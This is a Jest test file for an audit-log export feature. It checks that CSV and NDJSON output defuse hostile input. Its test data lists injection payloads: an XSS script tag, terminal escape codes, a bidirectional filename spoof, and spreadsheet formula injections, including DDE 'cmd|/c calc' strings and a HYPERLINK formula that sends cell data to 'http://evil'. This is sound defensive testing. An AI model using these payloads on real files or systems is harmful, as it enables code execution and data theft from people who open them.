import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { CSV_HEAD, csvCells, csvLine, numberCell, textCell, textOfCell } from '../../src/export/csv.js';
import { exportEntries } from '../../src/export/entries.js';
import { visible } from '../../src/event/visible.js';
import { rowJson } from '../../src/export/row-json.js';
import { AuditReader, type AuditEntry } from '../../src/query/index.js';
import { postgresEntryStore, postgresExportLog } from '../../src/store/postgres/index.js';
import { emptyLog, sealAll, type FilledLog } from '../support/filled-log.js';

/** What somebody writes to hurt whoever opens the file. */
const VALUES: readonly (readonly [string, string])[] = [
  ['a script', `<script>alert(1)</script>"><img src=x onerror=alert(1)>`],
  ['text from right to left', 'abc\u202egpj.exe\u2066\u200f'],
  ['escapes of a terminal', '\u001b[2J\u001b]0;owned\u0007\u009b31m'],
  ['a formula', `=HYPERLINK("http://evil/?"&A1,"x")`],
  ['a formula with a plus', '+1+cmd|/c calc!A0'],
  ['a formula with a minus', '-2+3+cmd|/c calc!A0'],
  ['a formula with an at', '@SUM(1+1)*cmd|/c calc!A0'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line end', '\r\n=1+1'],
  ['a full-width formula', '\uff1d1+1'],
  ['a quote that ends a cell', '",=1+1,"'],
  ['lines that begin a row', 'a\r\n"x","=1+1"\n'],
  ['a NUL', 'a\0b'],
  ['a lone surrogate', 'a\ud800b'],
  ['a megabyte', 'x'.repeat(1_000_000)],
  ['a formula behind a semicolon', 'a; ""=1+1;+1;"@x'],
  ['long digits', '12345678901234567890'],
  ['a byte order mark', '\ufeff=1'],
  ['an apostrophe', "'=1"],
  ['two apostrophes', "''=1"],
  ['an apostrophe behind a semicolon', "a;'=1;''=1;=1;'"],
];

let log: FilledLog;
let here: string;
let entries: AuditEntry[];
beforeAll(async () => {
  here = mkdtempSync(join(tmpdir(), 'audit-export-'));
  log = await emptyLog();
  // Past every door: what only the owner of the database can write.
  const deep = `{"new":${'['.repeat(4_000)}${']'.repeat(4_000)}}`;
  const rows: [string, string][] = [[`{"id":"deep"}`, deep], ['{"id":', '{"new":'], ['"text"', '[1]'], ['{"id":{"=1":"=2"}}', '{"new":{"=a":1e400,"__proto__":"x","n":-0}}']]; // prettier-ignore
  for (const [, value] of VALUES) {
    rows.push([`{"id":"ann"}`, JSON.stringify({ id: value, new: { [value]: value }, old: {} })]);
    const names = ['id', 'type', 'email', 'role', 'onBehalfOf', 'ip', 'userAgent', 'session', 'requestId'];
    const short = value.slice(0, 300);
    const data = {
      id: short,
      details: { [short]: short },
      reason: value,
      error: { name: short, message: value, code: short },
    };
    rows.push([JSON.stringify(Object.fromEntries(names.map((name) => [name, short]))), JSON.stringify(data)]);
  }
  for (const [actor, data] of rows)
    await log.pool.query(`insert into audit.content (source, op, model, actor, data) values ('change', 'update', $1, $2, $3)`, ['Note', Buffer.from(actor), data]); // prettier-ignore
  await log.pool.query(`insert into audit.content (source, op, model, actor, data) values ('change', 'update', '=Note', $1, '{}')`, [Buffer.from([0xff, 0xfe])]); // prettier-ignore
  await sealAll(log.pool);
  entries = [...(await new AuditReader(postgresEntryStore(log.pool, 'audit')).find({ order: 'oldest', limit: 500 })).entries]; // prettier-ignore
});
afterAll(async () => {
  rmSync(here, { recursive: true });
  await log.close();
});

async function textOf(format: 'csv' | 'ndjson', bom = true): Promise<string> {
  const chunks: Uint8Array[] = [];
  const reader = new AuditReader(postgresEntryStore(log.pool, 'audit'));
  for await (const chunk of exportEntries(reader, {}, { format, bom, record: postgresExportLog(log.pool, 'audit') }))
    chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}
// eslint-disable-next-line no-control-regex -- what moves a cursor, or hides
const UNSEEN = /[\0-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]/;

describe('what is hostile', () => {
  it('comes back from NDJSON as it was, and shows itself in the file', async () => {
    const text = await textOf('ndjson');
    expect(text).not.toMatch(UNSEEN);
    const read = text.trimEnd().split('\n').map((line) => JSON.parse(line) as unknown); // prettier-ignore
    expect(read.length).toBe(VALUES.length * 2 + 6);
    expect(read).toEqual(entries.map((entry) => JSON.parse(JSON.stringify(entry)) as unknown));
  });

  it('is text in CSV: as many lines as entries, no cell that runs', async () => {
    const text = await textOf('csv');
    expect(text.startsWith(`\ufeff${CSV_HEAD}`)).toBe(true);
    expect((await textOf('csv', false)).startsWith(CSV_HEAD)).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines.length).toBe(entries.length + 2);
    expect(text.slice(1)).not.toMatch(UNSEEN);
    for (const line of lines.slice(0, -1)) {
      const cells = line.match(/"(?:[^"]|"")*"/g) ?? [];
      expect([cells.length, cells.join(',') === line]).toEqual([33, true]);
      // Also for who takes the semicolon as a delimiter.
      for (const cell of [...cells, ...line.split(';').slice(1)]) expect(cell).not.toMatch(/^["\s]*(?:[=+@\t\r\uff1d\uff0b\uff0d\uff20]|-(?!\d))/); // prettier-ignore
    }
  });

  it('is read by a CSV reader of somebody else as the same rows', async () => {
    writeFileSync(join(here, 'a.csv'), await textOf('csv'));
    const python = `import csv,sys,json; csv.field_size_limit(10**9); print(json.dumps(list(csv.DictReader(open(sys.argv[1],encoding='utf-8-sig',newline='')))))`;
    if (!existsSync('/usr/bin/python3')) return;
    const rows = JSON.parse(execFileSync('python3', ['-c', python, join(here, 'a.csv')], { maxBuffer: 1e9 }).toString()) as Record<string, string>[]; // prettier-ignore
    expect(rows.map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
    expect(rows.map(({ seq }) => seq)).toEqual(entries.map(({ seq }) => String(seq)));
    const megabyte = rows.find((row) => (row['new']?.length ?? 0) > 1_000_000);
    expect(megabyte?.['resource_id']).toBe('x'.repeat(1_000_000));
  });

  it.each(VALUES)('%s is one defused cell', (_name, value) => {
    const cell = textCell(value);
    expect(cell).toMatch(/^"(?:[^"\r\n]|"")*"$/);
    expect(cell).not.toMatch(/^"\s*[=+\-@\uff1d]/);
  });

  it('different texts are different cells, and each is what its cell says', () => {
    const all = VALUES.flatMap(([, value]) => [value, `'${value}`, `''${value}`, `a;${value}`, `a;'${value}`, `;'"${value}`]); // prettier-ignore
    const texts = [...new Set(all.map((value) => visible(value, Number.POSITIVE_INFINITY)))];
    expect(new Set(all.map((value) => textCell(value))).size).toBe(texts.length);
    for (const value of all) expect(textOfCell(textCell(value))).toBe(visible(value, Number.POSITIVE_INFINITY));
  });

  it.each([
    ['plain', 'x'],
    ['quotes', '""'],
    ['commas', '"",""'],
    ['semicolons', ";'="],
  ])('a cell of 12 million times %s is read', (_name, part) => {
    const text = part.repeat(12 * 2 ** 20);
    expect(csvCells(`"${text}","","a"\r\n`)?.map(({ length }) => length)).toEqual([text.length + 2, 2, 3]);
  });

  it.each(['', '\r\n', '"a"', '"a"\n', '"a",\r\n', '"a""\r\n', '"a"b"\r\n', 'a\r\n', '"a"\r\n\r\n', '"a"\r\nx', '"a";"b"\r\n', ' "a"\r\n', '"a","b\r\n', `${'"",'.repeat(40)}""\r\n`])('%j is no line', (line) => {
    expect(csvCells(line)).toBeUndefined();
  }); // prettier-ignore

  it('numbers stay numbers, negative ones too, and dates that are none are empty', () => {
    expect([numberCell(-5), numberCell(0), numberCell(undefined)]).toEqual(['"-5"', '"0"', '""']);
    const [entry] = entries as [AuditEntry];
    expect(csvLine({ ...entry, sealedAt: new Date(Number.NaN), durationMs: -3 })).toMatch(/,"",[^\r]*,"-3",/);
  });

  it('values of Prisma that JSON has no word for are text', () => {
    const jsonNull = { _getNamespace: () => 'x', toJSON: undefined };
    expect(rowJson({ a: 1n, b: new Uint8Array([1, 255]), c: Number.NaN, d: -0, e: jsonNull, f: [2n ** 70n] })).toBe(
      `{"a":"1","b":"\\\\x01ff","c":"NaN","d":"-0","e":null,"f":["1180591620717411303424"]}`,
    );
  });

  it('is written to a file that is the same each time', async () => {
    expect(await textOf('ndjson')).toBe(await textOf('ndjson'));
    expect(readFileSync(join(here, 'a.csv'), 'utf8')).toBe(await textOf('csv'));
  });
});
